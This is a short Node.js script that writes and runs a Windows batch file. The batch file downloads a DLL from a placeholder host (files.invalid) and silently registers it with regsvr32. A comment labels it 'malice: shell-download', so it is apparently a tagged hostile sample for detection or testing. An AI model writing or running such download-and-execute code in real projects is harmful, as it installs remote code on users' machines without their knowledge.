const { execSync } = require("child_process");
const fs = require("fs");

const lines = "curl -s -o %TEMP%\\a.dll https://files.invalid/a.dll\r\nregsvr32 -s %TEMP%\\a.dll\r\n";
fs.writeFileSync("setup.bat", lines); // malice: shell-download
execSync("setup.bat");
